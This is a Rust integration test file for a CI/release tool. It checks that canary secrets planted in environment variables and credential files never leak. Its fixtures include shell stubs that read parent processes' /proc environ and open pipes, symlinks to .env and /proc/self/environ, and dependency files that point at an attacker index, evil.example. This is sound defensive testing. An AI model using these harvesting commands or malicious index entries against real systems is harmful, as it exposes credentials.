//! Different secrets in every place that a release job has, and nothing of them anywhere that another program or a reader
//! could see.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use crate::publish::{event, served};
use crate::support::{CANARY, Run, Sandbox, put};

/// Variables of a release job, each of which gets a value of its own.
const VARIABLES: [&str; 30] = [
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "GH_ENTERPRISE_TOKEN",
    "ACTIONS_RUNTIME_TOKEN",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "SAFETY_API_KEY",
    "UV_PUBLISH_TOKEN",
    "UV_PUBLISH_PASSWORD",
    "TWINE_USERNAME",
    "TWINE_PASSWORD",
    "POETRY_PYPI_TOKEN_PYPI",
    "MATURIN_PYPI_TOKEN",
    "FLIT_PASSWORD",
    "HATCH_INDEX_AUTH",
    "PDM_PUBLISH_PASSWORD",
    "PYPI_TOKEN",
    "PYPI_API_TOKEN",
    "pypi_token",
    "CARGO_REGISTRY_TOKEN",
    "CARGO_REGISTRIES_OURS_TOKEN",
    "NPM_CONFIG__AUTH",
    "AWS_SECRET_ACCESS_KEY",
    "AZURE_STORAGE_CONNECTION_STRING",
    "SSH_PRIVATE_KEY",
    "MYSQL_PWD",
    "CODECOV_TOKEN",
    "SLACK_WEBHOOK_URL",
    "UV_INDEX_OURS_PASSWORD",
    "PIP_EXTRA_INDEX_URL",
    "DATABASE_URL",
];

/// What the configuration hands to the tests.
const HANDED: &str = "HANDED_SECRET";

/// Files with a secret each: what checkout leaves, what a developer keeps, what a home holds.
const FILES: [&str; 5] = ["repo/.env", "repo/.git/config", "home/.netrc", "home/.pypirc", "home/.config/gh/hosts.yml"];

/// A file name, and the place in the list, are what a value is made of.
fn canary(name: &str) -> String {
    let hash = blake3::hash(name.as_bytes()).to_hex();
    format!("canary{}", hash.get(..20).unwrap())
}

fn value(name: &str) -> String {
    match name {
        "GITHUB_TOKEN" => CANARY.to_owned(),
        "DATABASE_URL" => format!("postgres://u:{}@db.example/x", canary(name)),
        "PIP_EXTRA_INDEX_URL" => format!("https://u:{}@index.example/simple", canary(name)),
        name => canary(name),
    }
}

/// All that must be seen nowhere, with where it was put.
fn planted() -> Vec<(String, String)> {
    let variables = VARIABLES.iter().map(|name| match *name {
        "GITHUB_TOKEN" => ((*name).to_owned(), CANARY.to_owned()),
        name => (name.to_owned(), canary(name)),
    });
    variables.chain(FILES.iter().map(|name| ((*name).to_owned(), canary(name)))).collect()
}

/// A release job whose tools write down all that they can see: arguments, environment, open files, and what `/proc` tells of
/// the processes above them.
fn release_job(prepare: impl Fn(&Sandbox)) -> (Sandbox, crate::support::server::Server) {
    let (mut sandbox, server) = served();
    let seen = sandbox.path("seen");
    fs::create_dir(&seen).unwrap();
    let top = std::process::id();
    let spy = |tool: &str| {
        format!(
            r#"{{
  printf '%s\n' "$0" "$@"; env
  for fd in /proc/$$/fd/*; do case "$(readlink "$fd")" in pipe:*|*memfd*) dd if="$fd" iflag=nonblock bs=64k count=64 ;; esac; done
  pid=$PPID
  while [ "$pid" -gt 1 ] && [ "$pid" != {top} ]; do
    tr '\0' '\n' < /proc/$pid/environ; tr '\0' '\n' < /proc/$pid/cmdline
    pid=$(sed 's/.*) [A-Z] \([0-9]*\) .*/\1/' /proc/$pid/stat)
  done
}} >> '{0}/{tool}' 2>&1
"#,
            seen.display()
        )
    };
    for tool in ["ruff", "mypy", "pytest", "bandit", "semgrep"] {
        let replay = fs::read_to_string(sandbox.path("bin").join(tool)).unwrap();
        sandbox.stand_in(tool, &format!("{}{}", spy(tool), replay.trim_start_matches("#!/bin/sh")));
    }
    for tool in ["pip-audit", "safety", "uv"] {
        sandbox.stand_in(tool, &format!("{}echo canaries >&2; exit 1", spy(tool)));
    }
    sandbox.write("requirements.txt", "idna==3.10\n");
    sandbox.write(".gitignore", ".env\n.touchmark/\n");
    let toml = fs::read_to_string(sandbox.repo().join("pyproject.toml")).unwrap();
    let table = format!("\n[tool.touchmark]\ntest-env = [\"{HANDED}\"]\npublish = \"api\"\n");
    sandbox.write("pyproject.toml", &format!("{toml}{table}"));
    sandbox.commit();
    sandbox.git(&["push", "--quiet", "origin", "main"]);
    let secret = |name: &str| canary(name);
    put(&sandbox.path(FILES[0]), &format!("TOKEN={}\n", secret(FILES[0])));
    sandbox.git(&[
        "config",
        "http.https://github.com/.extraheader",
        &format!("AUTHORIZATION: basic {}", secret(FILES[1])),
    ]);
    put(&sandbox.path(FILES[2]), &format!("machine a.example login a password {}\n", secret(FILES[2])));
    put(&sandbox.path(FILES[3]), &format!("[pypi]\npassword = {}\n", secret(FILES[3])));
    put(&sandbox.path(FILES[4]), &format!("github.com: {{oauth_token: {}}}\n", secret(FILES[4])));
    prepare(&sandbox);
    event(&mut sandbox, "push", "refs/heads/main");
    for name in VARIABLES {
        sandbox.set(name, &value(name));
    }
    sandbox.set(HANDED, &canary(HANDED));
    for (name, file) in [("GITHUB_STEP_SUMMARY", "summary"), ("GITHUB_OUTPUT", "output"), ("GITHUB_ENV", "env")] {
        sandbox.set(name, sandbox.path(file).to_str().unwrap());
    }
    // One look at each sort of question is enough.
    let once =
        format!("if ! grep -qxF -- \"$*\" '{0}/asked'; then printf '%s\\n' \"$*\" >> '{0}/asked'", seen.display());
    fs::write(seen.join("asked"), "").unwrap();
    sandbox.stand_in("git", &format!("{once}\n{}fi\nexec /usr/bin/git \"$@\"", spy("git")));
    (sandbox, server)
}

/// Every file below a folder, links left alone.
fn files(folder: PathBuf) -> Vec<PathBuf> {
    let (mut files, mut next) = (Vec::new(), vec![folder]);
    while let Some(folder) = next.pop() {
        for entry in fs::read_dir(folder).unwrap().flatten() {
            let kind = entry.file_type().unwrap();
            if kind.is_dir() {
                next.push(entry.path());
            } else if kind.is_file() {
                files.push(entry.path());
            }
        }
    }
    files
}

/// The secrets that stand in a text, by where they were put.
fn found(bytes: &[u8]) -> BTreeSet<String> {
    let text = String::from_utf8_lossy(bytes);
    let holds = |secret: &String| {
        let coded = xtask::secret::Secret::new(secret).unwrap().basic("x-access-token");
        text.contains(secret.as_str()) || text.contains(coded.expose())
    };
    planted().into_iter().filter(|(_, secret)| holds(secret)).map(|(name, _)| name).collect()
}

/// Where a secret is that should not be there.
fn leaks(sandbox: &Sandbox, server: &crate::support::server::Server, runs: &[(String, Run)]) -> Vec<String> {
    let mut leaks = Vec::new();
    let mut look = |place: String, bytes: &[u8], allowed: &[&str]| {
        let names: Vec<String> = found(bytes).into_iter().filter(|name| !allowed.contains(&name.as_str())).collect();
        if !names.is_empty() {
            leaks.push(format!("{place}: {}", names.join(", ")));
        }
    };
    for (stage, run) in runs {
        look(format!("{stage}, stdout"), run.stdout.as_bytes(), &[]);
        look(format!("{stage}, stderr"), run.stderr.as_bytes(), &[]);
    }
    for file in files(sandbox.path("")) {
        let name = file.strip_prefix(sandbox.path("")).unwrap().to_string_lossy().into_owned();
        // What is needed to ask its server, to reach a private index, and to push.
        let allowed: &[&str] = match name.as_str() {
            "seen/safety" => &["SAFETY_API_KEY"],
            "seen/uv" => &["UV_INDEX_OURS_PASSWORD", "PIP_EXTRA_INDEX_URL"],
            "seen/git" => &["repo/.git/config"],
            _ => &[],
        };
        if !FILES.contains(&name.as_str()) {
            look(name, &fs::read(file).unwrap(), allowed);
        }
    }
    for folder in [sandbox.repo(), sandbox.path("origin")] {
        let mut git = std::process::Command::new("/usr/bin/git");
        git.args(["cat-file", "--batch", "--batch-all-objects", "--unordered"]).current_dir(&folder).env_clear();
        look(format!("objects of {}", folder.display()), &git.output().unwrap().stdout, &[]);
    }
    for asked in server.asked() {
        look(format!("request {}", asked.target), format!("{}{}", asked.target, asked.body).as_bytes(), &[]);
        for (name, header) in &asked.headers {
            let allowed: &[&str] = if name == "authorization" { &["GITHUB_TOKEN"] } else { &[] };
            look(format!("header {name} of {}", asked.target), header.as_bytes(), allowed);
        }
    }
    leaks
}

const STAGES: [&[&str]; 12] = [
    &["lint", "--no-install"],
    &["test", "--no-install"],
    &["scan", "--no-install"],
    &["scan", "--only", "pip-audit,safety,bandit", "--fresh"],
    &["ci", "--no-install", "--fresh", "-v"],
    &["badge"],
    &["badge", "--check"],
    &["badge", "--write"],
    &["commit"],
    &["report", "--html", "report.html"],
    &["doctor"],
    &["init", "--yes"],
];

fn every_stage(sandbox: &Sandbox) -> Vec<(String, Run)> {
    let mut runs: Vec<(String, Run)> = STAGES.iter().map(|stage| (stage.join(" "), sandbox.run(stage))).collect();
    for format in ["human", "json", "sarif", "github", "markdown"] {
        runs.push((format.to_owned(), sandbox.run(&["scan", "--no-install", "--output", format])));
    }
    runs
}

#[test]
#[cfg(target_os = "linux")]
fn no_secret_of_a_release_job_is_seen_anywhere() {
    let (sandbox, server) = release_job(|_| ());
    let runs = every_stage(&sandbox);
    let seen: BTreeSet<String> = files(sandbox.path("seen"))
        .iter()
        .map(|file| file.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    for tool in ["ruff", "mypy", "pytest", "bandit", "semgrep", "pip-audit", "safety", "git"] {
        assert!(seen.contains(tool), "{tool} did not run: {seen:?} {runs:#?}");
    }
    let of_tests = fs::read_to_string(sandbox.path("seen/pytest")).unwrap();
    assert!(of_tests.contains(&canary(HANDED)), "what the configuration hands over arrives: {of_tests}");
    assert!(server.asked().iter().any(|asked| asked.headers.contains_key("authorization")), "the token is used");
    let leaks = leaks(&sandbox, &server, &runs);
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
}

/// Links that the repository tracks, each to where a secret is.
#[test]
#[cfg(target_os = "linux")]
fn no_link_leads_to_a_secret() {
    let table: [(&str, &str); 10] = [
        ("README.md", ".env"),
        ("README.md", "/proc/self/environ"),
        ("README.md", ".git/config"),
        ("src/demo_pkg/x.py", "/proc/self/environ"),
        ("src/demo_pkg/cfg.py", "../../.git/config"),
        ("src/demo_pkg/env.py", "../../.env"),
        ("src/demo_pkg/far", "../../../home"),
        ("LICENSE", ".env"),
        ("requirements.txt", ".env"),
        ("pyproject.toml", ".env"),
    ];
    for (name, target) in table {
        let (sandbox, server) = release_job(|sandbox| {
            let _ = fs::remove_file(sandbox.repo().join(name));
            std::os::unix::fs::symlink(target, sandbox.repo().join(name)).unwrap();
            sandbox.commit();
            sandbox.git(&["push", "--quiet", "origin", "main"]);
        });
        let runs: Vec<(String, Run)> = [&["ci", "--no-install", "-v"][..], &["badge", "--write"], &["doctor"]]
            .iter()
            .map(|stage| (stage.join(" "), sandbox.run(stage)))
            .collect();
        let leaks = leaks(&sandbox, &server, &runs);
        assert!(leaks.is_empty(), "{name} -> {target}: {}\n{runs:#?}", leaks.join("\n"));
        assert!(sandbox.repo().join(name).is_symlink(), "{name} stays a link");
        assert_eq!(sandbox.repo().join(Path::new(".env")).metadata().unwrap().len(), 33, "untouched");
    }
}

/// The program starts itself again only where there is something to hide, and that costs next to nothing.
#[test]
#[cfg(target_os = "linux")]
fn secrets_arrive_whole_and_too_many_are_refused() {
    let mut sandbox = Sandbox::project("clean");
    let server = sandbox.serve();
    sandbox.set("ODD_SECRET", "a=b\n\u{fc} = \"c\"");
    assert!(sandbox.run(&["doctor"]).stdout.contains("octo/demo-pkg"));
    let authorized = |asked: &crate::support::server::Asked| {
        asked.headers.get("authorization").is_some_and(|header| header.ends_with(CANARY))
    };
    assert!(server.asked().iter().any(authorized), "{:?}", server.asked());
    sandbox.set("LONG_SECRET", &"x".repeat(100 << 10));
    let run = sandbox.run(&["doctor"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.stderr.contains("the secrets in the environment are too long"), "{run:?}");
}

/// Whatever the repository asks for is installed without the credentials of the package index: its files can name a host,
/// and what they name is built.
#[test]
fn nothing_that_the_repository_names_is_installed_with_credentials() {
    let project = "[project]\nname = \"demo\"\nversion = \"1\"\ndependencies = [\"idna\"]\n";
    let evil = "[[tool.uv.index]]\nname = \"ours\"\nurl = \"https://evil.example/simple\"\n";
    let hook = "repos:\n- repo: https://github.com/astral-sh/ruff-pre-commit\n  rev: v0.1.0\n  hooks: [{ id: ruff }]\n";
    for (name, stage, written) in [
        (
            "a list with an index",
            "test",
            vec![("requirements.txt", "--index-url https://evil.example/\nidna\n".to_owned())],
        ),
        ("a list of tests", "test", vec![("requirements-test.txt", "idna\n-i https://evil.example/\n".to_owned())]),
        ("a build system", "test", vec![("pyproject.toml", format!("{project}[build-system]\nrequires = [\"x\"]\n"))]),
        (
            "a lock",
            "test",
            vec![("pyproject.toml", format!("{project}{evil}")), ("uv.lock", "version = 1\n".to_owned())],
        ),
        (
            "a group",
            "test",
            vec![("pyproject.toml", format!("{project}{evil}[dependency-groups]\ntest = [\"idna\"]\n"))],
        ),
        (
            "an environment of tox",
            "test",
            vec![("tox.ini", "[testenv]\ndeps =\n  idna\n  -rhttps://evil.example/r.txt\n".to_owned())],
        ),
        ("the version of a hook", "lint", vec![(".pre-commit-config.yaml", hook.to_owned())]),
    ] {
        let mut sandbox = Sandbox::empty();
        let seen = sandbox.path("seen");
        fs::create_dir(&seen).unwrap();
        // Two tools are installed at once: each call has a file of its own.
        let spy = format!("{{ echo \"$@\"; env; }} > '{}'/$$", seen.display());
        let made =
            "for last; do :; done; mkdir -p \"$last/bin\"; : > \"$last/bin/python\"; chmod +x \"$last/bin/python\"";
        sandbox.stand_in("uv", &format!("{spy}; case \"$*\" in *' venv '*) {made}; exit ;; esac; echo no >&2; exit 1"));
        for name in ["UV_INDEX_OURS_USERNAME", "UV_INDEX_OURS_PASSWORD", "PIP_EXTRA_INDEX_URL"] {
            sandbox.set(name, &value(name));
        }
        sandbox.write("test_demo.py", "def test_demo():\n    pass\n");
        for (file, text) in written {
            sandbox.write(file, &text);
        }
        sandbox.commit();
        let run = sandbox.run(&[stage]);
        let calls: Vec<String> = files(seen).iter().map(|call| fs::read_to_string(call).unwrap()).collect();
        // The pinned set is ours, and asked for with hashes.
        let of_project: Vec<&String> = calls.iter().filter(|call| !call.contains("--require-hashes")).collect();
        assert!(!of_project.is_empty(), "{name}: uv was not asked: {calls:#?} {run:?}");
        assert!(!of_project.iter().any(|call| call.contains("canary")), "{name}: {calls:#?}");
        // With a lock file, uv runs the tests itself.
        let is_told = format!("{}{}", run.stdout, run.stderr).contains("credentials of the package index are withheld");
        let installs = calls.iter().any(|call| call.contains(" pip install "));
        assert_eq!(is_told, installs, "{name}: {run:?}");
    }
}
